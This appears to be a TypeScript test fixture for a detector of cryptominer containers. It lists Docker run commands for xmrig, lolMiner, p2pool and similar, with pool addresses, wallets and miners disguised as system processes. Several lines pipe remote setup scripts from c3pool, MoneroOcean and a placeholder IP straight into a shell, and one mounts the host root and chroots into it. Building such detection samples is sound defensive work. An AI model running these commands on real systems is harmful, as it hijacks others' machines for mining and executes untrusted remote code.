import { walletOf } from '@/lib/rules/testing/wallets';
import { composed, container } from '../entry';

const SHAPE = 'shapes of miner containers in public reports';

/** Mining said outright, in options, variables or names. */
export const MINERS = [
  container('public xmrig image', SHAPE, `-d metal3d/xmrig`),
  container('xmrigcc', SHAPE, `-d --name agent pmietlicki/xmrigcc`),
  container(
    'renamed program, options of xmrig',
    SHAPE,
    `-d --name nginx-worker debian:12 /usr/sbin/nginx-worker --donate-level=1 -o 203.0.113.10:443 -u x --cpu-priority 5`,
  ),
  container(
    'pool on 443 by name',
    SHAPE,
    `-d ubuntu /usr/lib/systemd/systemd-oomd -o xmr-eu1.nanopool.org:443 -u ${walletOf(21)}.rig -p x --tls`,
  ),
  container(
    'stratum over TLS in a variable',
    SHAPE,
    `-d -e URL=stratum+ssl://gulf.moneroocean.stream:20128 busybox /bin/worker`,
  ),
  container('stratum in a command', SHAPE, `-d alpine /app/run -a rx/0 -o stratum+tcp://203.0.113.11:14444 -u abc`),
  container(
    'pool and wallet in variables',
    SHAPE,
    `-d -e POOL_URL=pool.hashvault.pro:443 -e POOL_USER=${walletOf(22)} acme/worker`,
  ),
  container('wallet in a variable of another name', SHAPE, `-d -e W=${walletOf(23)} library/job`),
  container('wallet behind a dash', SHAPE, `-d alpine ./java --u=${walletOf(24)} --p=443`),
  container('sub-address', SHAPE, `-d alpine ./run ${walletOf(32, 'subaddress')}`),
  container(
    'config in a variable',
    SHAPE,
    `-d -e CONFIG={"pools":[{"url":"pool.supportxmr.com:443","user":"${walletOf(25)}"}]} app/app`,
  ),
  container('unmineable', SHAPE, `-d alpine /m -a rx -o stratum+ssl://rx.unmineable.com:443 -u DOGE:Dabc.x`),
  container(
    'kawpow on a GPU',
    SHAPE,
    `-d nvidia/cuda:12.2.0-base-ubuntu22.04 /t-rex -a kawpow -o stratum+tcp://rvn.2miners.com:6060 -u Rabc`,
  ),
  container(
    'lolminer',
    SHAPE,
    `-d nvidia/cuda:12.2.0-base-ubuntu22.04 /opt/lolMiner --algo ETCHASH --pool stratum+ssl://etc.2miners.com:11010 --user 0x${'a1'.repeat(20)}`,
  ),
  container('cpuminer', SHAPE, `-d ubuntu ./minerd -a cryptonight -o stratum+tcp://203.0.113.12:3333 -u x -p x`),
  container('xmr-stak', SHAPE, `-d timonmat/xmr-stak-cpu`),
  container('image named by the coin', SHAPE, `-d hydra99/monero-cpu:1`),
  container('nicehash', SHAPE, `-d alpine /n --nicehash -o randomxmonero.auto.nicehash.com:443 -u x.rig`),
  container('solo over a node', SHAPE, `-d alpine /usr/bin/xmrig --daemon -o 203.0.113.13:18081 --coin monero -u x`),
  container('threads hint', SHAPE, `-d debian /bin/kd --cpu-max-threads-hint=75 --randomx-mode=fast -o c3pool.org:443`),
  container(
    'c3pool setup',
    SHAPE,
    `-d debian bash -c "curl -s -L https://download.c3pool.org/xmrig_setup/raw/master/setup_c3pool_miner.sh | LC_ALL=en_US.UTF-8 bash -s ${walletOf(26)}"`,
  ),
  container(
    'moneroocean setup',
    SHAPE,
    `-d debian bash -c "curl -s -L https://raw.githubusercontent.com/MoneroOcean/xmrig_setup/master/setup_moneroocean_miner.sh | bash -s ${walletOf(27)}"`,
  ),
  composed('a project that mines', SHAPE, `-e WALLET=${walletOf(28)} team/jobs:1.4 --url pool.supportxmr.com:443`),
  composed('labels of a project on a taken host', SHAPE, `-v /:/mnt alpine chroot /mnt sh`),
  composed('a project that fetches its program', SHAPE, `debian:12 sh -c "wget -qO- http://203.0.113.14/get.sh | sh"`),
  container(
    'p2pool for a stranger',
    SHAPE,
    `-d debian bash -c "./p2pool --host 203.0.113.15 --wallet ${walletOf(29)} --mini --start-mining 8"`,
  ),
  container(
    'pool name by added host',
    SHAPE,
    `-d --add-host p.local:203.0.113.16 alpine /m -o p.local:3333 -u ${walletOf(30)} -k`,
  ),
  container(
    'worker name of a pool in a variable',
    SHAPE,
    `-d -e ARGS="-o de.monero.herominers.com:1111 -u ${walletOf(31)} -p a" acme/api`,
  ),
  container('gpu farm image', SHAPE, `-d someone/nicehash-cuda`),
  container('ethash by name', SHAPE, `-d u/ethminer:latest -P stratum1+tcp://0x${'b2'.repeat(20)}@eth.f2pool.com:6688`),
];
